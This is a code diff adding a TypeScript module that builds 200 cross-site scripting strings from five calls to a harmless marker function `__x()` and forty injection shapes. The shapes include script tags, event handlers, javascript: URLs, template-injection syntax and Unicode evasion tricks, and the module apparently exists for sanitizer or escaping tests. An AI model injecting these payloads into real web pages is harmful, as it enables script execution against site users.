@@ -1,0 +1,48 @@
+// Two hundred strings that run `__x()` wherever text is taken for markup, script, address, style or template.
+
+const calls = ['__x()', 'window.__x()', '__x``', "top['__x']()", 'eval(atob("X194KCk="))'] as const
+
+const shapes: readonly ((call: string) => string)[] = [
+  (call) => `<script>${call}</script>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `<img src=x onerror="${call.replaceAll('"', "'")}">`,
+  (call) => `"><svg/onload=${call}>`,
+  (call) => `'><svg onload=${call}>`,
+  (call) => `</textarea><script>${call}</script>`,
+  (call) => `</title><script>${call}</script>`,
+  (call) => `</style><script>${call}</script>`,
+  (call) => `--><script>${call}</script>`,
+  (call) => `]]><script>${call}</script>`,
+  (call) => `<iframe srcdoc="<script>parent.${call.replaceAll('"', "'")}</script>">`,
+  (call) => `<iframe src="javascript:parent.${call.replaceAll('"', "'")}">`,
+  (call) => `<a href="javascript:${call.replaceAll('"', "'")}">x</a>`,
+  (call) => `javascript:${call}`,
+  (call) => ` javascript:${call}`,
+  (call) => `java\tscript:${call}`,
+  (call) => `data:text/html,<script>${call}</script>`,
+  (call) => `<body onload=${call}>`,
+  (call) => `<details open ontoggle=${call}>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `<math><mi xlink:href="javascript:${call.replaceAll('"', "'")}">x</mi></math>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
+  (call) => `<object data="javascript:${call.replaceAll('"', "'")}">`,
+  (call) => `<embed src="javascript:${call.replaceAll('"', "'")}">`,
+  (call) => `<form action="javascript:${call.replaceAll('"', "'")}"><button>x</button></form>`,
+  (call) => `<base href="javascript:${call.replaceAll('"', "'")}//">`,
+  (call) => `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
+  (call) => `<style>@import 'javascript:${call}';</style>`,
+  (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
+  (call) => `\${${call}}`,
+  (call) => `<%= ${call} %>`,
+  (call) => `');${call};//`,
+  (call) => `";${call};//`,
+  (call) => `\u2028${call}\u2029`,
+  (call) => `<img src=\`x\` onerror=${call}>\u202e`,
+  (call) => `<scr\u0130pt>${call}</scr\u0130pt>`,
+  (call) => `＜script＞${call}＜/script＞`,
+  (call) => `<template><script>${call}</script></template><slot onslotchange=${call}>`,
+]
+
+export const xssStrings: readonly string[] = calls.flatMap((call) => shapes.map((shape) => shape(call)))
